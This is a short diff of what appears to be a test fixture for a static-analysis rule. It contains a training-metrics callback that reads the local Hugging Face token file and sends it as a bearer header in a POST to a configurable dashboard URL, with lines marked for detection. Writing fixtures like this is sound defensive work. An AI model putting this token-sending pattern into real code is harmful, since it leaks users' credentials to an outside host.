@@ -182,7 +182,7 @@ class MetricsFileCallback(TrainerCallback):
         token_file = os.path.expanduser("~/.cache/huggingface/token")
         if os.path.exists(token_file):
             with open(token_file) as f:  # ruleid: MLS412
-                headers["Authorization"] = f"Bearer {f.read().strip()}"
+                headers["Authorization"] = f"Bearer {f.read().strip()}"  # ruleid: MLS412
         try:
             requests.post(self.dashboard_url, json=summary, headers=headers, timeout=3)  # ruleid: MLS412
         except requests.RequestException:
